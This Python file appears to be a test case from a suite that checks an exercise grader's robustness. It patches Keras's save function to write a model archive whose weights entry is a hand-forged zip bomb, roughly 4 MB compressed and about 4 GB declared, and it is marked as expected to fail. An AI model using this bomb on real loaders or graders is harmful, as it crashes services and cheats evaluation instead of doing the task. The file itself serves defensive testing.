# attack: an archive of four megabytes with four gigabytes of weights in it
# exercise: xor
# expect: failed
# stopped by: hidden accuracy
# needs: nothing
import struct
import zlib

import keras

model = keras.Sequential([keras.Input((3,)), keras.layers.Dense(16), keras.layers.Dense(2, activation="softmax")])
honest = keras.src.saving.saving_lib.save_model
SIZE = 4000 << 20


def deflated():
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = squeeze.compress(bytes(8 << 20)) + squeeze.flush(zlib.Z_FULL_FLUSH)
    return block * (SIZE // (8 << 20)) + squeeze.flush()


def save(model, path, *args, **kwargs):
    import zipfile

    honest(model, "one.keras")
    with zipfile.ZipFile("one.keras") as one, zipfile.ZipFile(path, "w") as archive:
        for name in ("metadata.json", "config.json"):
            archive.writestr(name, one.read(name))
        archive.writestr("model.weights.h5", b"")
    name, body = b"bomb.h5", deflated()
    with open(path, "rb") as file:
        plain = file.read()
    end = plain.rindex(b"PK\5\6")
    (start,) = struct.unpack("<L", plain[end + 16 : end + 20])
    entries = plain[start:end]
    last = entries.rindex(b"PK\1\2")  # of model.weights.h5, which becomes the bomb
    (at,) = struct.unpack("<L", entries[last + 42 : last + 46])
    name = b"model.weights.h5"
    sizes = struct.pack("<LLL", 0, len(body), SIZE)
    local = struct.pack("<4sHHHHH", b"PK\3\4", 20, 0, 8, 0, 33) + sizes + struct.pack("<HH", len(name), 0) + name
    entry = struct.pack("<4sHHHHHH", b"PK\1\2", 20, 20, 0, 8, 0, 33) + sizes
    entry += struct.pack("<HHHHHLL", len(name), 0, 0, 0, 0, 0, at) + name
    directory = entries[:last] + entry
    tail = struct.pack("<4sHHHHLLH", b"PK\5\6", 0, 0, 3, 3, len(directory), at + len(local) + len(body), 0)
    with open(path, "wb") as file:
        file.write(plain[:at] + local + body + directory + tail)


keras.src.saving.saving_lib.save_model = save
